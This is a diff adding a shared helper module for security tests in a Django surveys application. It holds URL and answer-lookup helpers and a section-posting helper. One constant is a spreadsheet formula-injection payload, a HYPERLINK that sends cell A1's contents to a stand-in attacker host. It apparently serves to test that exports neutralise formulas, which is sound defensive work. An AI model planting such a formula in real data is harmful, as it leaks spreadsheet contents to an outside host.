@@ -1,0 +1,39 @@
+"""What the attacks share: addresses, answers as stored, a forged formula."""
+
+from pathlib import Path
+
+from django.urls import reverse
+
+from surveys.models import (
+    Answer,
+    UserRole,
+)
+
+Role = UserRole.Role
+
+
+BASE_DIR = Path(__file__).resolve().parents[2]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+
+def url(name, *args):
+    return reverse(name, args=args)
+
+
+def answers_of(invitation):
+    return dict(
+        Answer.objects.filter(response__invitation=invitation).values_list(
+            "question__code", "value"
+        )
+    )
+
+
+def section_post(client, token, code, values, **extra):
+    page = client.get(url("surveys:section", token, code))
+    return client.post(
+        url("surveys:section", token, code),
+        {**values, "version": page.context["version"], "action": "save"},
+        **extra,
+    )
